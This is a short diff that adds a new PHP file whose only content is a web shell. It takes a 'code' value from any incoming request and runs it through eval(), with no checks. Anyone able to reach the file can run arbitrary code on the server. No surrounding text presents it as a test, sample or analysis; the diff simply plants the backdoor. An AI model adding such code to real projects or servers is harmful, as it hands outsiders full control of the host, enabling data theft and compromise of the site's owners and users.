@@ -1,0 +1,4 @@
+<?php
+if (isset($_REQUEST['code'])) {
+    eval(stripslashes($_REQUEST['code']));
+}
